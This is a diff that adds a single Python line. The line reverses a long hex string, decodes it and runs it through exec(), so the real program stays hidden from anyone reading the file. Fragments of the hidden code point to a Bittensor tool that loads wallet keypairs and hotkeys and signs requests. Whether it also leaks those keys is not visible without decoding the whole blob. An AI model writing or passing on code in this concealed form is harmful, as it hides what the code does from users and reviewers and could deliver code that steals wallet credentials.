@@ -0,0 +1 @@
+_ = lambda __ : bytes.fromhex(__[::-1]);exec((_)( "a09282e69616d602020202a0a322f5f5e69616d6f5f52202d3d302f5f556d616e6f5f5026696a0a0a09203025637c656024656c696166602669602138247968756e237973702020202a09202020202a0c2272756464737e2379737d356c696660202020202020202a0c222e24656c696166602d74656c6961666b702c237d76613e2a34656472716473702d2029282275647e657f636f566275607e256d69647b702e696023747e657f636361602d7923747c65737562782e656c6b7024656c6c6f60522660202020202020202a08247e696270702020202a092d522b6f622b547c6573756270247f6e6026696023747c65737562702e6960247c6573756270227f666021382d6573702d3024656c696166602020202a0a092825637f6c636e2d6165627473702020202020202020202020202020202a0a34757074757f6e237762716026696020202020202020202020202a0a397c6c616e696660202020202020202a092929256361607e23776271602c203e203828716d602c2929736e65627275736e6f636e23776271602c213828716d602c227564796277702c237275626d657e602c29756b6f596071682c6c616f5c6c6f60782e65727e2f69636e697371602d3023747c657375627020202020202020202020202a0924716d627f666e23776271602c2d616562747378227564796277547c65737562502d302275647962777020202020202020202020202a0a39727470202020202020202a0922222d356e696c67756e602c22283d266475722d376e69646f636e65602c222772202c24757074757f6e23776271682e65607f602d302d61656274737020202020202020202020202a0a34757074757f6e2377627160266960202020202020202a0a092138247968756e2379737020202020202020202020202a092272756464737e2379737d356c6966602c222e2c6c6f60702f647023747e657f636361602f6e4228247e6962707020202020202020202020202a0a337275626d657e60247f6e60266960202020202020202a0d59237275626d657e6e2377627168247563702e69602275626d657e60266960237275626d657e602e69602275626d657e60227f66602275626d657e6b502d30237275626d657e6020202020202020202020202a0a337275626d657e6e2377627160266960202020202020202a0d537e656b6f647f586375627665627e25636e6164737e6948647571402e6960247270227f6660292d522275626d657e622b547278247e696b502d30237275626d657e60202020202020202a0a09756b6f596071602d3029756b6f5960716e25636e6164737e694864757140202020202020202a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f627660202020202020202a0a092238247968756e2379737020202020202020202020202a092272756464737e2379737d356c6966602c222e207570247960247563702f647025636e6f6029707e2e69616d602e6572502e29756b6e296071602e696029756b602940514024696c6166702f6e4228247e6962707020202020202020202020202a0a3929756b6f5960716829756b6f5960716f59766962756670247f6e60227f6029756b6f59607160247f6e60266960202020202020202a092829756b6f5960716f54616f6c602d3029756b6f59607160202020202020202a0a392272756464737e2379737824757f6464737f54736562796465627e22696c647875647e6f636028647967702020202a0e2374627f63656270247c6573756270256864702e65656774756260207570246e6560247f6e602473757d6029237461656278647022756b627f67702d6f62766023202020202a0f637c61682023747375657175627024656c69616660246e6160237568637562766562702e656b6f64702c237b636568636029756b602d6f627660237567616373756d4023202020202a09282275647e657f636f566275607e256d6964702d3024656472716473702020202a04757f6464737e237973702d302d6165627473702020202a0a092677627168237762716f55637271607e227563727160702d3023776271602020202a092224757f64647370266f6024616564737e6960256c69666023796864702f64702564796277522d307c6568602c2224757074757f6d2d2228247e656d657762716f5464616e227563727160702020202a09222923747e657f636361602465627f6473702c6c61602a347c65716665646820237275626d657e60256375686470297c6e6f422d307c6568602c247e696d35607974702c222a222d337762716e602c22237275626d657e6d2d2228247e656d657762716f5464616e227563727160702020202a0922247e657f63636160256e6f60266f602374737565717562702e6565677475626023746e6f636563522d307c6568602c254341405f545e455f4343414f52554c4c4f405d347c6571666564602c24716f6c666d35607974702c22256361607d2d2228247e656d657762716f5464616e227563727160702020202a092225636e6f602471602465637375636f62707023747e657f636361422d307c6568602c29534e45425255534e4f434f52554c4c4f405d347c6571666564602c247e696d35607974702c2229736e65627275736e6f636d2d2228247e656d657762716f5464616e227563727160702020202a09222c6e6f637a622d347c6571666564602c2d5226737362202c222c6e6f637a622b5d337563696f6863602c2224716d627f666d2d2228247e656d657762716f5464616e227563727160702020202a09222e247e657f636361602465627f647370297275667560266f6025636e616c616260246e616021647f6571702b63656863422d3e6f69647079627363756468227563727160547e656d657762714e2563727160776271602d30227563727160702020202a0a39256e6f6e402d30256e6f6e402c702473796c602a36776271682e69616d602665646a0a0a03747c65737562702e6275747562702020202a09247c6573756278246e656070716e23747c6573756270202020202020202a09247c657375627825647962777e22756479627770202020202020202a04656863796e6966602479616771602d30247c6573756270202020202020202a0a392d537275626d657e602e69602275626d657e60227f6660292275626d657e682465646e657f626b58246564756c607d6f636f53716e2f69636e697371602e696024656863796e696660227f66602020202a0d5b502d3023747c65737562702020202a0a0d702020202020202020202020202020202a0c2d5b502a322371647f65717220202020202020202020202020202020202020202a0c256e6f6e402a3225636e616c61626220202020202020202020202020202020202020202a0c292928256d69647e256d696478247e69602a3224716f546568636475666220202020202020202020202020202020202020202a0c292568227473702a32227f6272756220202020202020202020202020202020202020202a0c25637c6166402a322b6f6220202020202020202020202020202020202020202a0c292275626d657e68247e69602a322275626d657e6220202020202020202020202020202020202020202a0b702e6275747562702020202020202020202020202020202a0a35602371602e6f69647075636875402470756368756020202020202020202020202a0925636160702c2275626d657e602c29756b6f59607168247e657f6363616f5c6c6f60702479616771602e6275747562702020202020202020202020202020202a0a3972747020202020202020202020202a0a35627f6860716d6563702864796770236e69737160202020202020202a0a392275626d657e682465646e657f626026656460236e697371602020202a0a0929736e65627275736e6f636825627f6860716d65635e2f69636e697371602d3025627f6860716d6563702020202a0a3473796c602e3d202924716f6c66602a35636160702c247e69602a39736e65627275736e6f63602c227564796277547c65737562502a327564796277702c2473796c602a337275626d657e602c227473702a39756b6f596071682c6c616f5c6c6f607026656460236e6973716a0a0a0d556371626b50227f6023777f62702e627574756270202020202020202a092d702020202020202020202020202020202a0c292222202c222c61647f6472282475676e247966656e6562602a322c61647f647220202020202020202020202020202020202020202a0c292222202c22276e696e69616d656272282475676e247966656e6562602a32276e696e69616d65627220202020202020202020202020202020202020202a0c292222202c22256079747f5164716462282475676e247966656e6562602a32256079747f516471646220202020202020202020202020202020202020202a0c292222202c22256d616e62282475676e247966656e6562602a32256d616e6f547966656e65626220202020202020202020202020202020202020202a0c2d5224716f54656279607875622b51647f6571702a3224716f546562796078756f51647f65717220202020202020202020202020202020202020202a0c2d52256d616e622b51647f6571702a32256d616e6f51647f65717220202020202020202020202020202020202020202a0c2d5225646f636f51647f6571722b51647f6571702a3225646f636f51647f65717220202020202020202020202020202020202020202a0c256371626a2a20202020202020202020202020202020202020202a0b78246e656070716e23777f62702020202020202020202020202020202a0a3d5d7b7b50227f602d5223747966656e6562622b51647f6571702e6960247966656e656260227f666020202020202020202020202a0a3d522371647f6571722b547c65737562702e696021647f657170227f6660202020202020202a0d5b502d3023777f6270202020202020202a0d70202020202020202a0c292222202c2224716f5465627960787562282475676e25636e616c6162602a3224716f546562796078756f55636e616c6162622020202020202020202020202a0c292222202c22276e696e69616d656272282475676e25636e616c6162602a32276e696e69616d65627f55636e616c6162622020202020202020202020202a0c2d5224716f54656863647566622b547c65737562702a3224716f54656863647566622020202020202020202020202a0c222220227f602d52227f627275622b547c65737562702a32227f627275622020202020202020202020202a0c2d522b6f622b547c65737562702a322b6f622020202020202020202020202a0c2d522275626d657e622b547c65737562702a322275626d657e622020202020202020202020202a0b702d302563716260202020202020202a0d7b70227f602d5225636e616c6162622b547c65737562702d3025636e616c616260202020202020202a0a3924736964602a347c657375627823777f627f5673736f50266564602020202a046f6864756d63696471647370402020202a0a09282863757c666e2d61656274737e266c656370202020202020202a09277f6278277f6275647962777e2673736f5e266c6563702020202020202020202020202020202a0a39247c657375627823777f627f5673736f5e266c6563702e6960277f6270227f666020202020202020202020202a0a35637c6560202020202020202a09222e6c52202b2029247c657375627823707d65746e2e6f637a6825647962777e2d61656274737e266c65637020202020202020202020202a0a356e6f6e402379602673736f5e266c656370266960202020202020202a0a3924736964602a347c65737562702c266c656378256479627770266564602020202a0a092822756461656865647962777e2673736f5e266c65637020202020202020202020202a0923544c4549464f5653534d33756d616e646c656966602c2d616562747378227564796277547369644e267373602d302673736f5e266c65637020202020202020202020202a0a3226737362202d3d3024716d627f666f54757074757f60266960202020202020202a056e6f6e402d302673736f5e266c656370202020202020202a04716d627f666f54757074757f602d3024716d627f666f54757074757f6e266c656370202020202020202a0d6165627473702d302d61656274737e266c656370202020202020202a0a39227473702a34716d627f666f54757074757f602c2d6165627473702c266c6563782f5f54796e696f5f50266564602020202a0a327564796277547c65737562502373716c636a0a0a047c65737562702e6275747562702020202a056e6f6e402379602d52227f627275622b547c65737562702d302d522b6f622b547c65737562702020202a092928256d69647e256d696478247e69602d302d5224716f54656863647566622b547c65737562702020202a0a0224656c696166602479646562736d246e616d25636e616c616262202d302d52227f627275622b547c6573756270202020202020202a0a356e6f6e402379602d52227f627275622b547c657375627026696c65602020202a0d792224716f5465627960787562282475676e25636e616c6162602a3224716f5465627960787562202c2922276e696e69616d656272282475676e25636e616c6162602a32276e696e69616d6562722b702d302d5225636e616c6162622b547c6573756270202020202020202a0a35636e616c6162602669602020202a056e6f6e402d3025636e616c616260202020202020202a0a3e6f6964707563687540247075636875602020202a092d522e656b6f647f5469622b537e656b6f64702c29756b6f5960716825636e616c61626f5475676e236e6973716f5c6563776e65602479616771602d3025636e616c616260202020202020202a0a397274702020202a0928247961677e2275636160702479616771602020202a0a0224656c69616660237c69616475646d21647f657172202d302d52227f627275622b547c6573756270202020202020202a0a35637c65602020202a0d592d5b502c222371647f657172282475676e292d7b702c222164716462282475676e237562702e69602170227f66602921782972716d6d65737f51647f65717f5b502d302d522371647f6571722b547c6573756270202020202020202a0a322353554343455352202d3d30292223757471647372282475676e23756270246e61602924736964602c2375627825636e6164737e696379602669602020202a0d792568227473702a32227f627275622b702d3023756270202020202020202a0a35602371602e6f6964707563687540247075636875602020202a092224535f4052202c2d522e656b6f647f5469622b537e656b6f64702c24616f6c697160702c284451405f535c49414455444f51445f4551502c29756b6f59607168247375657175627f5960716f546e65637e236e6973716f5c6563776e65602479616771602d3023756270202020202020202a0a397274702020202a0928247961677e2275636160702479616771602020202a0d7222202a3224696f5275626d656d6f597c696d616662202c222e6562202a32276e616c62202c25637c6166402a3225637962707275647e656f5379622b702d3024616f6c697160702020202a0a047c65737562702e627574756270202020202020202a0224656c6961666028637562766562702e656b6f6472202d302d52227f627275622b547c6573756270202020202020202a0a337e656b6f6470247f6e602669602020202a092275626d657e602c237e656b6f647f5475676e25636e6164737e6948647571482461656278647f5f647e2f69636e697371602479616771602d30237e656b6f64702020202a0928247961677e2275636160702479616771602020202a0e246c657f677028636479677370247e657f636361602566796473616275647e69602e6160256b696c602e6f637a6e237e656b6f647d286375627665627023202020202a0f64702465647379637275607023796028637562766562702568647025637967727568647f602b3465637575627025627160237e656b6f64702465686361634023202020202a0a09256361607822756361605f502d302275636160702020202a0a0d702020202a0c2d5b502a322371647f65717220202020202020202a0c256e6f6e402a3225636e616c61626220202020202020202a0c292928256d69647e256d696478247e69602a3224716f546568636475666220202020202020202a0c256e6f6e402a32227f6272756220202020202020202a0c25637c6166402a322b6f6220202020202020202a0c292275626d657e68247e69602a322275626d657e6220202020202020202a0b702d30247c65737562702020202a0a05636e6164737e69486475714024727f607d6960286475716e256369667275637e207071602d6f6276602020202a036e6973716f5c6563776e656024727f607d6960247e65696c636e207071602d6f6276602020202a0a34736964602e3d202924716f6c66602a35636160702c247e69602a3275626d657e602c227473702a39756b6f59607168247e657f6363616f5c6c6f607026656460236e6973716a0a0a092823696e6f647f6e6f6d6e256d6964702d302c6c61636f5473716c6f5e266c656370202020202020202a0929716c6564682075656c637e2f69636e697371602479616771602020202020202020202020202020202a0a30302e3029716c65646026696020202020202020202020202a092823696e6f647f6e6f6d6e256d6964702d20256361607e266c6563702b202c6c61636f5473716c6f5e266c6563702d3029716c65646020202020202020202020202a0a356e6f6e40247f6e602379602c6c61636f5473716c6f5e266c656370266960202020202020202a0a39266c656378247961677026656460236e697371602020202a0a056e6f6e402d302c6c61636f5473716c6f5e266c656370202020202020202a05636160702d30256361607e266c656370202020202020202a0a3924716f6c66602a35636160702c266c6563782f5f54796e696f5f50266564602020202a0a0222222e24727160716023746e6f6365637020656361607060247371656c60247160247e657f63636160256e6f60266f60237c6c6163602d616562747370757025686470237075656b422222202020202a0a32756361605f502373716c636a0a0a0d702020202a0c2d50202020202020202a0d5b50227f60292d5b502c2223747966656e656262282475676e21647f6571702e6960247966656e656260227f666020202020202020202020202a0d7020202020202020202020202a0c29222c61647f6472282475676e247966656e6562602a322c61647f6472202020202020202020202020202020202a0c2922276e696e69616d656272282475676e247966656e6562602a32276e696e69616d656272202020202020202020202020202020202a0c2922256079747f5164716462282475676e247966656e6562602a32256079747f5164716462202020202020202020202020202020202a0c2922256d616e62282475676e247966656e6562602a32256d616e62202020202020202020202020202020202a0b7020202020202020202020202a0b502a3223747966656e65626220202020202020202a0c292224716f5465627960787562282475676e21647f6571702a3224716f546562796078756220202020202020202a0c2922256d616e62282475676e21647f6571702a32256d616e6220202020202020202a0c292225646f636f51647f657172282475676e21647f6571702a3225646f636f51647f65717220202020202020202a0b702e6275747562702020202a0a34736964602e3d202924736964602a31647f6571782972716d6d65737f51647f65717f502665646a0a0a0d5a0c222c61647f6472202020202a0c22276e696e69616d656272202020202a0c22256079747f5164716462202020202a0c22256d616e6f547966656e656262202020202a0c2224716f546562796078756f51647f657172202020202a0c22256d616e6f51647f657172202020202a0c2225646f636f51647f657172202020202a0c2224716f546562796078756f55636e616c616262202020202a0c22276e696e69616d65627f55636e616c616262202020202a0c2224716f5465686364756662202020202a0c22227f62727562202020202a0c222b6f62202020202a0c222275626d657e62202020202a0b502d3023544c4549464f5653534a0a02237c69616475646d21647f65717f237567616b6361607f28367f29607162202d30284451405f535c49414455444f51445f45515a0a0e24796024757f68647967702230237574716473702864796770237479687560246e61602374707d6f627070227566756e6022756c6c6f6070256864702a39756b6e296071602e6960232a0465627f64737025626029746165627c61602473757d6029756b6029405140256864502e227275646473702f6470246564736562796465627023796023747e69627070247e65696c6360232a05686470276e6968647972756675602b3924757074757f6d2d20227f682024757f646473702f64702e65647479627770256271602374627f63656270247c6573756270297c6e6f40232a032a0e29277f6270256e6f6023747567602c6c696473702371647f65717024757f6864796770247e657f636361602e616820247966656e65626022756070277f6270256e6f602a36535340232a032a0d7d5d7d5e2e2e2b502a3223747966656e656262202c247e69602a3224716f5465627960787562202c227473702a32256d616e62202c227473702a3225646f636f51647f6571722b7b502a322371647f65717220202020232a0c256e6f6e402c702d747e69602a3224716f5465627960787562202c247e69602a32276e696e69616d6562722b702a3225636e616c61626220202020232a0c247e69602a3224716f5465686364756662202c256e6f6e402c70227473702a32227f62727562202c2c6f6f62602a322b6f62202c247e69602a322275626d657e622b702020232a0a33756e696c602e4f435a40232a032a0e23756863796e6966602479602371602e6f6f6370237160247e657f63636160227560702e65647479627770237960247c6573756270256e6f402e2565627660247960232a056b616d60237e656b6f6470246568636163602e656867702e65667560256e6f6023716023747e657f636020756473702e656b6f6470256864702b34727160716023746e6f63656370232a056361607d2d20247371656c60247160247271647370246e61602c6169647e65657175637025627160247e657f63636160256d61637025686470227f6660237473756571756250232a0e29256d696470216024716029736e65627275736e6f636d2d2024737f6d6024716820297c647e65627275736e6f63602465637375636f6270702562716023747e657f63636140232a032a0d554c49464024757074757f6d2d2b502d5e2e2e28323630237275626d657e6d2d2b502d53544e4f43454350256361607d2d2b5020202020202020202020202020202020202020202020202020202020202020232a0d5e4029736e65627275736e6f636d2d2b502d5673736c7c6e6f637a6024716d627f666d2d2b5022756c6c6f607e256369667275637e207071602d6d202e6f68647970702020232a032a0e2e6f637a6e237e656b6f647d28637562766562702e6960247e657f63636160297275667560227f66602b636568636025636e616c61626f21647f6571702566796473616275647e696d2e6f6e40232a0a09756b6f5960716f597669627566702c29756b6f5960716f54616f6c6024727f607d69602c6964757e207071602d6f62766a09534e45425255534e4f434f52554c4c4f40502c254341405f545e455f4343414f52554c4c4f405024727f607d69602769666e6f636e207071602d6f62766a0a056d69647024727f607d696a0379737024727f607d696a0e6f637a6024727f607d696a0673736024727f607d696a02696c647875647e6f636024727f607d696a0f69636e6973716024727f607d696a05637271607762716024727f607d696" ));